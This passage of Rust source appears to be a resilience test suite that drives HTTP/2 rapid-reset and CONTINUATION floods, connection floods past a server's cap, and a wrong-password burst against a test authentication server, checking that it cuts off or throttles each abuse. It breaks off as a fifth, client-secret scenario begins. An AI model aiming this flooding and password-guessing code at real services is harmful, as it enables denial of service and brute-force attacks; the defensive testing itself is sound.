    ended: Option<(Duration, String)>,
}

/// A raw HTTP/2 connection: the preface and SETTINGS exchanged, the server's frames read (and
/// counted) by a task of their own, the writing side the abusive client's.
struct RawH2 {
    writer: WriteHalf<TlsStream<TcpStream>>,
    reader: JoinHandle<Received>,
}

impl RawH2 {
    async fn open(target: &Target) -> anyhow::Result<Self> {
        let mut tls = tokio::time::timeout(EXCHANGE_LIMIT, target.tls(&target.h2))
            .await
            .context("TLS handshake")??;
        ensure!(
            tls.get_ref().1.alpn_protocol() == Some(b"h2"),
            "the server did not choose h2"
        );
        let mut hello = PREFACE.to_vec();
        frame(&mut hello, SETTINGS, 0, 0, &[]);
        tls.write_all(&hello).await?;
        let (kind, flags, _, _) = tokio::time::timeout(EXCHANGE_LIMIT, read_frame(&mut tls))
            .await
            .context("no SETTINGS from the server")??;
        ensure!(
            kind == SETTINGS && flags & ACK == 0,
            "the server began with frame type {kind}"
        );
        let mut ack = Vec::new();
        frame(&mut ack, SETTINGS, ACK, 0, &[]);
        tls.write_all(&ack).await?;
        let opened = Instant::now();
        let (mut read, writer) = tokio::io::split(tls);
        let reader = tokio::spawn(async move {
            let mut received = Received::default();
            // Bounded: the connection ends (the server's doing, or the client's in `finish`).
            loop {
                match read_frame(&mut read).await {
                    Ok((HEADERS, _, _, _)) => received.answered += 1,
                    Ok((RST_STREAM, _, _, _)) => received.reset += 1,
                    Ok((GOAWAY, _, _, payload)) if payload.len() >= 8 => {
                        let last = u32::from_be_bytes([payload[0], payload[1], payload[2], payload[3]]);
                        let code = u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]]);
                        let debug = String::from_utf8_lossy(&payload[8..]).into_owned();
                        received.goaway = Some((last & 0x7fff_ffff, code, debug));
                    }
                    Ok(_) => {}
                    Err(error) => {
                        let how = match error.kind() {
                            std::io::ErrorKind::UnexpectedEof => "closed".to_string(),
                            std::io::ErrorKind::ConnectionReset => "reset".to_string(),
                            _ => error.to_string(),
                        };
                        received.ended = Some((opened.elapsed(), how));
                        return received;
                    }
                }
            }
        });
        Ok(Self { writer, reader })
    }

    /// Whether the server has ended the connection.
    fn ended(&self) -> bool {
        self.reader.is_finished()
    }

    /// Gives the server two seconds to end the connection, ends it otherwise; what the server
    /// sent, and whether it ended the connection itself.
    async fn finish(mut self) -> (Received, bool) {
        let by_server = tokio::time::timeout(Duration::from_secs(2), &mut self.reader).await;
        if let Ok(received) = by_server {
            return (received.unwrap_or_default(), true);
        }
        let _ = self.writer.shutdown().await;
        match tokio::time::timeout(Duration::from_secs(5), &mut self.reader).await {
            Ok(received) => (received.unwrap_or_default(), false),
            Err(_) => {
                self.reader.abort();
                (Received::default(), false)
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// 1. Rapid reset.

/// One rapid-reset connection: streams opened and cancelled, what the server sent, whether it
/// ended the connection.
struct ResetConnection {
    streams: usize,
    received: Received,
    by_server: bool,
    /// The client stopped because the abuse's time was over.
    cut: bool,
}

struct RapidReset {
    server: &'static str,
    connections: Vec<ResetConnection>,
    /// Connections that could not even be set up (the server refusing them).
    refused: Vec<String>,
}

/// Rapid reset at `target`, one connection after another until [`ABUSE`] has passed or
/// [`RESET_CONNECTIONS`] were used.
async fn rapid_reset(target: &Target) -> anyhow::Result<RapidReset> {
    let deadline = Instant::now() + ABUSE;
    let block = request_block(&target.addr.to_string(), &target.path);
    let mut abuse = RapidReset {
        server: target.name,
        connections: Vec::new(),
        refused: Vec::new(),
    };
    for _ in 0..RESET_CONNECTIONS {
        let began = Instant::now();
        if began >= deadline {
            break;
        }
        let mut connection = match RawH2::open(target).await {
            Ok(connection) => connection,
            Err(error) => {
                abuse.refused.push(short(&format!("{error:#}")));
                continue;
            }
        };
        let (mut stream, mut streams) = (1u32, 0);
        while streams < RESET_STREAMS_PER_CONNECTION && Instant::now() < deadline && !connection.ended() {
            let mut burst = Vec::with_capacity(RESET_BURST * 80);
            for _ in 0..RESET_BURST {
                frame(&mut burst, HEADERS, END_STREAM | END_HEADERS, stream, &block);
                frame(&mut burst, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                stream += 2;
            }
            let written = tokio::time::timeout(EXCHANGE_LIMIT, async {
                connection.writer.write_all(&burst).await?;
                connection.writer.flush().await
            })
            .await;
            if !matches!(written, Ok(Ok(()))) {
                break;
            }
            streams += RESET_BURST;
            tokio::task::yield_now().await;
        }
        let cut = Instant::now() >= deadline;
        let (received, by_server) = connection.finish().await;
        abuse.connections.push(ResetConnection {
            streams,
            received,
            by_server,
            cut,
        });
        tokio::time::sleep_until(began + RESET_CONNECTION_EVERY).await;
    }
    Ok(abuse)
}

impl RapidReset {
    /// The server ended every abusive connection itself (GOAWAY, or closed within a second),
    /// having processed at most [`RESET_STREAMS_PROCESSED`] of its streams (the last connection
    /// may have been cut by the end of the abuse instead); and the abuse ran.
    fn check(&self) -> anyhow::Result<()> {
        ensure!(
            self.refused.len() < 5,
            "{}: connections could not be set up: {:?}",
            self.server,
            self.refused
        );
        let streams: usize = self.connections.iter().map(|c| c.streams).sum();
        ensure!(
            self.connections.len() >= 5 && streams >= 1000,
            "too little abuse ran: {self}"
        );
        let bounded = |c: &ResetConnection| {
            c.by_server
                && match (&c.received.goaway, &c.received.ended) {
                    (Some((last, _, _)), _) => last.div_ceil(2) <= RESET_STREAMS_PROCESSED,
                    (None, Some((after, _))) => *after < Duration::from_secs(1),
                    (None, None) => false,
                }
        };
        let kept: Vec<(usize, &Received)> = self
            .connections
            .iter()
            .filter(|c| !c.cut && !bounded(c))
            .map(|c| (c.streams, &c.received))
            .collect();
        ensure!(
            kept.is_empty(),
            "{} did not cut {} rapid-reset connections short (streams sent, what it sent): {kept:?}",
            self.server,
            kept.len()
        );
        Ok(())
    }
}

impl fmt::Display for RapidReset {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let streams: usize = self.connections.iter().map(|c| c.streams).sum();
        let most = self.connections.iter().map(|c| c.streams).max().unwrap_or(0);
        let by_server = self.connections.iter().filter(|c| c.by_server).count();
        let answered: usize = self.connections.iter().map(|c| c.received.answered).sum();
        let mut endings: BTreeMap<String, usize> = BTreeMap::new();
        for connection in &self.connections {
            let ending = match &connection.received.goaway {
                Some((_, code, debug)) => format!("GOAWAY {} {debug:?}", error_name(*code)),
                None => connection
                    .received
                    .ended
                    .as_ref()
                    .map_or("open".to_string(), |(_, how)| how.clone()),
            };
            *endings.entry(ending).or_default() += 1;
        }
        let last_streams: Vec<u32> = self
            .connections
            .iter()
            .filter_map(|c| c.received.goaway.as_ref().map(|(last, _, _)| *last))
            .collect();
        let mut ended_after: Vec<Duration> = self
            .connections
            .iter()
            .filter_map(|c| c.received.ended.as_ref().map(|(after, _)| *after))
            .collect();
        ended_after.sort();
        write!(
            f,
            "{} connections in a row ({} refused), {streams} streams opened and cancelled (at most {most} on one \
             connection, cap {RESET_STREAMS_PER_CONNECTION}), {answered} answered; {by_server} connections ended by \
             the {} ({endings:?}; GOAWAY's last stream at most {}), median {:?} after set-up",
            self.connections.len(),
            self.refused.len(),
            self.server,
            last_streams.iter().max().copied().unwrap_or(0),
            ended_after.get(ended_after.len() / 2).copied().unwrap_or_default(),
        )
    }
}

// ---------------------------------------------------------------------------------------------
// 2. CONTINUATION flood.

/// One CONTINUATION connection: the frames' size, what the client wrote before it noticed the
/// end, what the server sent, whether it ended the connection and after how long.
struct ContinuationConnection {
    frame_bytes: usize,
    written: usize,
    frames: usize,
    received: Received,
    by_server: bool,
}

struct ContinuationFlood {
    server: &'static str,
    connections: Vec<ContinuationConnection>,
}

/// [`CONTINUATION_CONNECTIONS`] connections with full-size frames and as many with tiny ones,
/// at once, each until the server ends it, [`CONTINUATION_BYTE_CAP`] or [`ABUSE`].
async fn continuation_flood(target: &Target) -> anyhow::Result<ContinuationFlood> {
    let deadline = Instant::now() + ABUSE;
    // Full-size frames: 16 literals of about 1000 bytes (the default SETTINGS_MAX_FRAME_SIZE is
    // 16384); tiny ones: one short literal each.
    let mut large = Vec::new();
    for n in 0..16 {
        hpack_literal(&mut large, format!("x-flood-{n:02}").as_bytes(), &[b'a'; 1000]);
    }
    let mut tiny = Vec::new();
    hpack_literal(&mut tiny, b"x-flood", b"aaaaaaaa");
    let mut connections = JoinSet::new();
    for payload in [large, tiny] {
        let payload = Arc::new(payload);
        for _ in 0..CONTINUATION_CONNECTIONS {
            let connection = RawH2::open(target).await?;
            let block = request_block(&target.addr.to_string(), &target.path);
            connections.spawn(continuation_connection(
                connection,
                block,
                payload.clone(),
                deadline,
            ));
        }
    }
    let mut flood = ContinuationFlood {
        server: target.name,
        connections: Vec::new(),
    };
    while let Some(connection) = connections.join_next().await {
        flood.connections.push(connection?);
    }
    Ok(flood)
}

/// Sends a HEADERS frame without END_HEADERS, then CONTINUATION frames of `payload` until the
/// server ends the connection, [`CONTINUATION_BYTE_CAP`] or `deadline`.
async fn continuation_connection(
    mut connection: RawH2,
    block: Vec<u8>,
    payload: Arc<Vec<u8>>,
    deadline: Instant,
) -> ContinuationConnection {
    let mut first = Vec::new();
    frame(&mut first, HEADERS, END_STREAM, 1, &block);
    let mut chunk = Vec::new();
    let per_chunk = (64 * 1024 / (payload.len() + 9)).max(1);
    for _ in 0..per_chunk {
        frame(&mut chunk, CONTINUATION, 0, 1, &payload);
    }
    let (mut written, mut frames) = (0, 0);
    if connection.writer.write_all(&first).await.is_ok() {
        written += first.len();
        while written < CONTINUATION_BYTE_CAP && Instant::now() < deadline && !connection.ended() {
            let sent = tokio::time::timeout(EXCHANGE_LIMIT, async {
                connection.writer.write_all(&chunk).await?;
                connection.writer.flush().await
            })
            .await;
            if !matches!(sent, Ok(Ok(()))) {
                break;
            }
            written += chunk.len();
            frames += per_chunk;
            tokio::task::yield_now().await;
        }
    }
    let (received, by_server) = connection.finish().await;
    ContinuationConnection {
        frame_bytes: payload.len() + 9,
        written,
        frames,
        received,
        by_server,
    }
}

impl ContinuationFlood {
    /// The server ended every connection itself, with the client having written at most
    /// [`CONTINUATION_BYTES_BOUND`] and well before [`ABUSE`] was over.
    fn check(&self) -> anyhow::Result<()> {
        ensure!(
            self.connections.len() == 2 * CONTINUATION_CONNECTIONS,
            "{} connections",
            self.connections.len()
        );
        for connection in &self.connections {
            let ended_after = connection.received.ended.as_ref().map(|(after, _)| *after);
            ensure!(
                connection.by_server
                    && connection.written <= CONTINUATION_BYTES_BOUND
                    && ended_after.is_some_and(|after| after < ABUSE / 2),
                "{}: a CONTINUATION flood of {}-byte frames was not cut: {} bytes written, ended by the server: {}, {:?}",
                self.server,
                connection.frame_bytes,
                connection.written,
                connection.by_server,
                connection.received
            );
        }
        Ok(())
    }
}

impl fmt::Display for ContinuationFlood {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut kinds: BTreeMap<usize, Vec<&ContinuationConnection>> = BTreeMap::new();
        for connection in &self.connections {
            kinds.entry(connection.frame_bytes).or_default().push(connection);
        }
        let mut parts = Vec::new();
        for (frame_bytes, connections) in kinds {
            let written = connections.iter().map(|c| c.written).max().unwrap_or(0);
            let frames = connections.iter().map(|c| c.frames).max().unwrap_or(0);
            let after = connections
                .iter()
                .filter_map(|c| c.received.ended.as_ref().map(|(after, _)| *after))
                .max()
                .unwrap_or_default();
            let endings: Vec<String> = connections
                .iter()
                .map(|c| match &c.received.goaway {
                    Some((_, code, debug)) => format!("GOAWAY {} {debug:?}", error_name(*code)),
                    None => c
                        .received
                        .ended
                        .as_ref()
                        .map_or("open".into(), |(_, how)| how.clone()),
                })
                .collect::<std::collections::BTreeSet<_>>()
                .into_iter()
                .collect();
            parts.push(format!(
                "{} connections of {frame_bytes}-byte frames: {} ended by the server ({endings:?}) within {after:?}, \
                 the client having written at most {written} bytes ({frames} frames) by then",
                connections.len(),
                connections.iter().filter(|c| c.by_server).count(),
            ));
        }
        write!(f, "{}", parts.join("; "))
    }
}

// ---------------------------------------------------------------------------------------------
// 3. Connection flood.

/// A connection held open by the flood.
type Held = Pin<Box<dyn AsyncRead + Send>>;

struct ConnectionFlood {
    server: &'static str,
    tcp: u64,
    tls: u64,
    opened: usize,
    failed: usize,
    /// The first few reasons.
    failures: Vec<String>,
    open_took: Duration,
    /// When the server closed connections (from their opening), plain TCP and TLS.
    closed_tcp: Vec<Duration>,
    closed_tls: Vec<Duration>,
    held: Duration,
}

/// How many connections the flood may open to the server `pid`, `wanted` at most: this process
/// and the server each keep room for 2048 other open files (this process's soft limit is raised
/// toward its hard limit first, when needed).
fn flood_size(pid: u32, wanted: u64) -> anyhow::Result<u64> {
    use nix::sys::resource::{getrlimit, setrlimit, Resource};
    const RESERVE: u64 = 2048;
    let open = |pid: &str| -> anyhow::Result<u64> {
        Ok(std::fs::read_dir(format!("/proc/{pid}/fd"))?.count() as u64)
    };
    let ours = open("self")?;
    let (soft, hard) = getrlimit(Resource::RLIMIT_NOFILE)?;
    let needed = ours + RESERVE + wanted;
    if soft < needed && soft < hard {
        setrlimit(Resource::RLIMIT_NOFILE, needed.min(hard), hard)?;
    }
    let (soft, _) = getrlimit(Resource::RLIMIT_NOFILE)?;
    let server_limit = std::fs::read_to_string(format!("/proc/{pid}/limits"))?
        .lines()
        .find(|line| line.starts_with("Max open files"))
        .and_then(|line| line.split_whitespace().nth(3))
        .and_then(|soft| soft.parse::<u64>().ok())
        .context("the server's open-file limit")?;
    let server_open = open(&pid.to_string())?;
    Ok(wanted
        .min(soft.saturating_sub(ours + RESERVE))
        .min(server_limit.saturating_sub(server_open + RESERVE)))
}

/// Opens `tcp` plain TCP connections and `tls` TLS ones (ALPN `http/1.1`, nothing sent),
/// [`FLOOD_OPENING`] at a time, and holds them all for `hold`, noting when the server closes
/// any.
async fn connection_flood(
    target: &Target,
    tcp: u64,
    tls: u64,
    hold: Duration,
) -> anyhow::Result<ConnectionFlood> {
    let began = Instant::now();
    let opened: Vec<anyhow::Result<(bool, Instant, Held)>> = futures::stream::iter(0..tcp + tls)
        .map(|n| async move {
            let is_tls = n >= tcp;
            let open = async {
                Ok::<_, anyhow::Error>(if is_tls {
                    Box::pin(target.tls(&target.http1).await?) as Held
                } else {
                    Box::pin(TcpStream::connect(target.addr).await?) as Held
                })
            };
            let held = tokio::time::timeout(EXCHANGE_LIMIT, open)
                .await
                .context("not open within the limit")??;
            Ok((is_tls, Instant::now(), held))
        })
        .buffer_unordered(FLOOD_OPENING)
        .collect()
        .await;
    let open_took = began.elapsed();
    let until = Instant::now() + hold;
    let (mut failed, mut failures) = (0, Vec::new());
    let mut holders = JoinSet::new();
    for connection in opened {
        match connection {
            Ok((is_tls, at, mut held)) => {
                holders.spawn(async move {
                    let mut byte = [0u8; 1];
                    // Anything read (data, end of stream, reset) ends the wait: the server
                    // sends nothing unasked, so it closed the connection.
                    let closed = tokio::time::timeout_at(until, held.read(&mut byte)).await;
                    (is_tls, closed.is_ok().then(|| at.elapsed()))
                });
            }
            Err(error) => {
                failed += 1;
                if failures.len() < 5 {
                    failures.push(short(&format!("{error:#}")));
                }
            }
        }
    }
    let mut flood = ConnectionFlood {
        server: target.name,
        tcp,
        tls,
        opened: holders.len(),
        failed,
        failures,
        open_took,
        closed_tcp: Vec::new(),
        closed_tls: Vec::new(),
        held: hold,
    };
    while let Some(holder) = holders.join_next().await {
        match holder? {
            (false, Some(after)) => flood.closed_tcp.push(after),
            (true, Some(after)) => flood.closed_tls.push(after),
            (_, None) => {}
        }
    }
    flood.closed_tcp.sort();
    flood.closed_tls.sort();
    Ok(flood)
}

impl ConnectionFlood {
    /// The flood was opened (all but a few connections).
    fn check(&self) -> anyhow::Result<()> {
        ensure!(
            self.opened as u64 >= (self.tcp + self.tls) * 95 / 100,
            "{}: only {} of {} connections opened: {:?}",
            self.server,
            self.opened,
            self.tcp + self.tls,
            self.failures
        );
        Ok(())
    }
}

impl fmt::Display for ConnectionFlood {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let range = |closed: &[Duration]| match (closed.first(), closed.last()) {
            (Some(first), Some(last)) => format!(" after {first:.1?} … {last:.1?}"),
            _ => String::new(),
        };
        write!(
            f,
            "{} connections opened in {:.1?} ({} plain TCP, {} TLS with nothing sent; {} failed to open), held \
             {:?}: the {} closed {} plain TCP{} and {} TLS{}",
            self.opened,
            self.open_took,
            self.tcp,
            self.tls,
            self.failed,
            self.held,
            self.server,
            self.closed_tcp.len(),
            range(&self.closed_tcp),
            self.closed_tls.len(),
            range(&self.closed_tls),
        )
    }
}

/// A flood beyond a server's connection limit, and the legitimate client's fresh connections
/// beside it.
struct BeyondTheCap {
    server: &'static str,
    cap: u64,
    opened: usize,
    open_took: Duration,
    /// Connections reset while they were being opened (refused before `connect` returned).
    reset_opening: usize,
    /// Other failures to open, and the first few.
    failed: usize,
    failures: Vec<String>,
    /// When the server closed the flood's connections (from the flood's start).
    closed: Vec<Duration>,
    /// The legitimate client's fresh connections that failed while the flood was held: how long
    /// each took, and how it failed.
    refusals: Vec<(Duration, String)>,
    /// When the flood let go (from its being open), if it did before the legitimate client was
    /// served again.
    released: Option<Duration>,
    /// When a fresh connection of the legitimate client was served again (from the flood being
    /// open).
    served_again: Option<Duration>,
    /// `connections_refused_total`'s growth (filled in by the caller).
    refused: f64,
    /// From the flood's first connection until the server held its cap (the times below count
    /// from then).
    full_after: Duration,
}

/// Opens `cap` + [`BEYOND_THE_CAP`] plain TCP connections that never start TLS, [`FLOOD_OPENING`]
/// at a time, and holds them (after a second, so that the legitimate client beside it has its
/// connection open). Once the server holds `cap` connections (`open_now`, its gauge), the
/// legitimate client tries a new connection every 500 ms (a TLS handshake, then `fresh`) until
/// it is served. The flood lets go `release_after` the server was full, or holds on until the
/// legitimate client is served again (the server having closed the flood's connections itself),
/// [`BEYOND_HOLD`] at most.
async fn beyond_the_cap<F, Fut>(
    target: &Target,
    cap: u64,
    fresh: Op,
    release_after: Option<Duration>,
    open_now: F,
) -> anyhow::Result<BeyondTheCap>
where
    F: Fn() -> Fut,
    Fut: Future<Output = anyhow::Result<f64>>,
{
    tokio::time::sleep(Duration::from_secs(1)).await;
    let total = cap + BEYOND_THE_CAP;
    let began = Instant::now();
    // Bounded: the flood is let go explicitly, or at this point at the latest.
    let until = began + BEYOND_HOLD * 2;
    let (release, released) = tokio::sync::watch::channel(false);
    // Each connection is held by a task of its own from the moment it is open, which notes when
    // (from the flood's start) the server closed it.
    let opened: Vec<anyhow::Result<JoinHandle<Option<Duration>>>> = futures::stream::iter(0..total)
        .map(|_| {
            let mut released = released.clone();
            async move {
                let mut tcp = tokio::time::timeout(EXCHANGE_LIMIT, TcpStream::connect(target.addr))
                    .await
                    .context("not open within the limit")??;
                Ok(tokio::spawn(async move {
                    let mut byte = [0u8; 1];
                    let closed = tokio::select! {
                        _ = tcp.read(&mut byte) => Some(began.elapsed()),
                        _ = released.wait_for(|released| *released) => None,
                        () = tokio::time::sleep_until(until) => None,
                    };
                    // Held (closed by the server or not) until let go, as an attacker would.
                    let _ = tokio::time::timeout_at(until, released.wait_for(|released| *released)).await;
                    drop(tcp);
                    closed
                }))
            }
        })
        .buffer_unordered(FLOOD_OPENING)
        .collect()
        .await;
    let open_took = began.elapsed();
    // The server accepts connections at its own pace (they wait in the kernel's accept queue
    // meanwhile): the legitimate client's tries begin once every place is taken.
    let full = selkie_e2e::eventually(BEYOND_HOLD, || async {
        let open = open_now().await?;
        ensure!(open >= cap as f64, "{open} connections open of {cap}");
        Ok(())
    })
    .await;
    let full_at = Instant::now();
    let mut cap_figures = BeyondTheCap {
        server: target.name,
        cap,
        opened: 0,
        open_took,
        full_after: full_at.duration_since(began),
        reset_opening: 0,
        failed: 0,
        failures: Vec::new(),
        closed: Vec::new(),
        refusals: Vec::new(),
        released: None,
        served_again: None,
        refused: 0.0,
    };
    let mut holders = Vec::new();
    for connection in opened {
        match connection {
            Ok(holder) => {
                cap_figures.opened += 1;
                holders.push(holder);
            }
            Err(error) => {
                let reset = error.downcast_ref::<std::io::Error>().is_some_and(|error| {
                    matches!(
                        error.kind(),
                        std::io::ErrorKind::ConnectionReset | std::io::ErrorKind::ConnectionRefused
                    )
                });
                if reset {
                    cap_figures.reset_opening += 1;
                } else {
                    cap_figures.failed += 1;
                    if cap_figures.failures.len() < 5 {
                        cap_figures.failures.push(short(&format!("{error:#}")));
                    }
                }
            }
        }
    }
    // The legitimate client's new connections, every 500 ms, until one is served.
    loop {
        if let Some(after) = release_after {
            if cap_figures.released.is_none() && full_at.elapsed() >= after {
                let _ = release.send(true);
                cap_figures.released = Some(full_at.elapsed());
            }
        }
        let tried = Instant::now();
        let attempt = tokio::time::timeout(LOGIN_DEADLINE, async {
            let handshake = tokio::time::timeout(EXCHANGE_LIMIT, target.tls(&target.http1))
                .await
                .context("no TLS handshake within the limit")??;
            drop(handshake);
            fresh().await
        })
        .await;
        match attempt {
            Ok(Ok(())) => {
                cap_figures.served_again = Some(full_at.elapsed());
                break;
            }
            Ok(Err(error)) => cap_figures
                .refusals
                .push((tried.elapsed(), short(&format!("{error:#}")))),
            Err(_) => cap_figures.refusals.push((tried.elapsed(), "no answer".into())),
        }
        if full_at.elapsed() >= BEYOND_HOLD {
            break;
        }
        tokio::time::sleep_until(tried + Duration::from_millis(500)).await;
    }
    let _ = release.send(true);
    for holder in holders {
        if let Some(after) = holder.await? {
            cap_figures.closed.push(after);
        }
    }
    cap_figures.closed.sort();
    full.with_context(|| format!("{} did not hold {cap} connections: {cap_figures}", target.name))?;
    Ok(cap_figures)
}

impl BeyondTheCap {
    /// The connections the server closed as soon as it accepted them (by the time it was full, or
    /// within a second after), and those reset while being opened.
    fn at_once(&self) -> usize {
        self.reset_opening + self.closed.iter().filter(|after| self.at_accept(**after)).count()
    }

    /// Whether a connection closed `after` the flood's start was closed as it was accepted.
    fn at_accept(&self, after: Duration) -> bool {
        after < self.full_after + Duration::from_secs(1)
    }

    /// The connections beyond the cap were refused at once and counted; so were the legitimate
    /// client's new connections while the flood held its places, each promptly (never left
    /// hanging); and it was served again as soon as places were free: right after the flood let
    /// go, or (the Supervisor) once the server had closed the flood's connections for not
    /// starting TLS within its handshake timeout.
    fn check(&self) -> anyhow::Result<()> {
        ensure!(
            self.failed == 0,
            "{}: connections failed to open: {:?}",
            self.server,
            self.failures
        );
        ensure!(
            self.refused >= BEYOND_THE_CAP as f64 && self.at_once() as u64 >= BEYOND_THE_CAP,
            "{}: {} connections refused at once, {} counted in connections_refused_total, {BEYOND_THE_CAP} expected",
            self.server,
            self.at_once(),
            self.refused
        );
        let slowest = self
            .refusals
            .iter()
            .map(|(took, _)| *took)
            .max()
            .unwrap_or_default();
        ensure!(
            !self.refusals.is_empty() && slowest < Duration::from_secs(2),
            "{}: the legitimate client's new connections beyond the cap: {:?}",
            self.server,
            self.refusals
        );
        let served_by = match self.released {
            Some(released) => released + Duration::from_secs(2),
            None => SUPERVISOR_HANDSHAKE_TIMEOUT + Duration::from_secs(5),
        };
        ensure!(
            self.served_again.is_some_and(|after| after < served_by),
            "{}: the legitimate client was not served again within {served_by:?}: {:?}",
            self.server,
            self.served_again
        );
        Ok(())
    }
}

impl fmt::Display for BeyondTheCap {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let later: Vec<&Duration> = self
            .closed
            .iter()
            .filter(|after| !self.at_accept(**after))
            .collect();
        let slowest = self
            .refusals
            .iter()
            .map(|(took, _)| *took)
            .max()
            .unwrap_or_default();
        let kinds: std::collections::BTreeSet<String> = self
            .refusals
            .iter()
            .map(|(_, what)| what.chars().take(120).collect())
            .collect();
        write!(
            f,
            "{} plain TCP connections against maxConnections {} ({} opened in {:.1?}, the server full after \
             {:.1?}): {} refused at once ({} reset while opening), connections_refused_total +{}; {} more closed \
             by the {} {:.1?} … {:.1?} after the flood's start; the flood let go {:?} after the server was \
             full; the legitimate \
             client's new connections were refused {} times (each within {slowest:.1?}: {kinds:?}) and served \
             again {:.1?} after the server was full",
            self.cap + BEYOND_THE_CAP,
            self.cap,
            self.opened,
            self.open_took,
            self.full_after,
            self.at_once(),
            self.reset_opening,
            self.refused,
            later.len(),
            self.server,
            later.first().copied().copied().unwrap_or_default(),
            later.last().copied().copied().unwrap_or_default(),
            self.released,
            self.refusals.len(),
            self.served_again,
        )
    }
}

// ---------------------------------------------------------------------------------------------
// 4. Wrong passwords.

/// The `n`th username of the wrong-password burst: the first [`DIRECTORY_USERS`] are in the
/// directory.
fn username(n: usize) -> String {
    if n < DIRECTORY_USERS {
        format!("user-{n:03}")
    } else {
        format!("ghost-{n:03}")
    }
}

struct WrongPasswords {
    attempts: usize,
    usernames: usize,
    /// Answers by kind.
    answers: BTreeMap<&'static str, usize>,
    /// Throttled attempts for the targeted usernames.
    throttled_targeted: usize,
    others: Vec<String>,
    took: Duration,
    slowest: Duration,
}

/// How one wrong-password login ended.
fn classify(response: &selkie_oidc::https::Response) -> Result<&'static str, String> {
    let params = pinniped_cli::redirected(response).map_err(|e| short(&format!("{e:#}")))?;
    let error = pinniped_cli::param(&params, "error").unwrap_or_default();
    let description = pinniped_cli::param(&params, "error_description").unwrap_or_default();
    match error {
        "" if pinniped_cli::param(&params, "code").is_some() => Ok("logged in"),
        "access_denied" if description.contains("not accepted") => Ok("refused"),
        "access_denied" if description.contains("too many failed logins") => Ok("throttled"),
        _ => Err(format!("{error}: {description}")),
    }
}

/// The burst: [`PASSWORD_ROUNDS`] wrong passwords for each of [`USERNAMES`] usernames, then
/// [`TARGETED_ATTEMPTS`] more for each of the first [`TARGETED`], [`PASSWORD_WORKERS`] at a time
/// (each on a connection of its own), stopping at [`ABUSE`].
async fn wrong_passwords(issuer: &str, ca_pem: &str) -> anyhow::Result<WrongPasswords> {
    let mut attempts: Vec<usize> = (0..PASSWORD_ROUNDS).flat_map(|_| 0..USERNAMES).collect();
    attempts.extend((0..TARGETED_ATTEMPTS).flat_map(|_| 0..TARGETED));
    let attempts = Arc::new(attempts);
    let (base, path) = pinniped_cli::split_issuer(issuer);
    let url = Arc::new(pinniped_cli::authorize_url(
        &base,
        &path,
        &["pinniped_idp_name"],
        &[("pinniped_idp_name", IDP_NAME)],
    ));
    let next = Arc::new(AtomicUsize::new(0));
    let began = Instant::now();
    let deadline = began + ABUSE;
    let mut workers = JoinSet::new();
    for _ in 0..PASSWORD_WORKERS {
        let (attempts, url, next, http) = (attempts.clone(), url.clone(), next.clone(), new_client(ca_pem)?);
        workers.spawn(async move {
            let mut results = Vec::new();
            while let Some(user) = attempts.get(next.fetch_add(1, Ordering::Relaxed)).copied() {
                if Instant::now() >= deadline {
                    break;
                }
                let password = format!("wrong-password-{}", results.len());
                let tried = Instant::now();
                let answer = tokio::time::timeout(
                    EXCHANGE_LIMIT * 2,
                    pinniped_cli::get(&http, &url, Some(&password), &username(user)),
                )
                .await;
                let outcome = match answer {
                    Ok(Ok(response)) => classify(&response),
                    Ok(Err(error)) => Err(short(&format!("{error:#}"))),
                    Err(_) => Err("no answer".into()),
                };
                results.push((user, outcome, tried.elapsed()));
            }
            results
        });
    }
    let mut burst = WrongPasswords {
        attempts: 0,
        usernames: USERNAMES,
        answers: BTreeMap::new(),
        throttled_targeted: 0,
        others: Vec::new(),
        took: Duration::ZERO,
        slowest: Duration::ZERO,
    };
    while let Some(results) = workers.join_next().await {
        for (user, outcome, took) in results? {
            burst.attempts += 1;
            burst.slowest = burst.slowest.max(took);
            match outcome {
                Ok(kind) => {
                    *burst.answers.entry(kind).or_default() += 1;
                    if kind == "throttled" && user < TARGETED {
                        burst.throttled_targeted += 1;
                    }
                }
                Err(other) => {
                    *burst.answers.entry("other").or_default() += 1;
                    if burst.others.len() < 5 {
                        burst.others.push(other);
                    }
                }
            }
        }
    }
    burst.took = began.elapsed();
    Ok(burst)
}

impl WrongPasswords {
    /// Every attempt was answered as refused or throttled; the targeted usernames were throttled
    /// once past their free failures, and no other username was.
    fn check(&self) -> anyhow::Result<()> {
        ensure!(
            self.attempts == PASSWORD_ROUNDS * USERNAMES + TARGETED * TARGETED_ATTEMPTS,
            "only {} attempts ran within {ABUSE:?}",
            self.attempts
        );
        ensure!(
            !self.answers.contains_key("logged in") && !self.answers.contains_key("other"),
            "answers {:?}: {:?}",
            self.answers,
            self.others
        );
        // Half of the attempts past the free failures, at least: the waits double from 1 s, and
        // attempts in flight together all pass before any of them counts.
        let throttled_at_least = TARGETED * (PASSWORD_ROUNDS + TARGETED_ATTEMPTS - FREE_FAILURES) / 2;
        ensure!(
            self.throttled_targeted >= throttled_at_least,
            "only {} attempts for the targeted usernames were throttled, {throttled_at_least} expected",
            self.throttled_targeted
        );
        ensure!(
            self.answers.get("throttled").copied().unwrap_or(0) == self.throttled_targeted,
            "usernames below the free failures were throttled: {:?}",
            self.answers
        );
        Ok(())
    }
}

impl fmt::Display for WrongPasswords {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} logins with wrong passwords for {} usernames ({DIRECTORY_USERS} in the directory; {TARGETED} of them \
             {} times each), {PASSWORD_WORKERS} at a time, in {:.1?} (slowest answer {:.1?}): {:?} ({} of the \
             targeted usernames' throttled, refused without asking the directory)",
            self.attempts,
            self.usernames,
            PASSWORD_ROUNDS + TARGETED_ATTEMPTS,
            self.took,
            self.slowest,
            self.answers,
            self.throttled_targeted,
        )
    }
}

fn slapd_cpu(slapd: &Slapd) -> Duration {
    selkie_perf::procstat::cpu_time(slapd.pid()).unwrap_or_default()
}

// ---------------------------------------------------------------------------------------------
// 5. Wrong client secrets.

/// Registers the OIDCClients [`FLOODED_CLIENT`] and [`BYSTANDER_CLIENT`] and gives each a secret
/// through the aggregated API (`kubectl create` of an OIDCClientSecretRequest); once both are
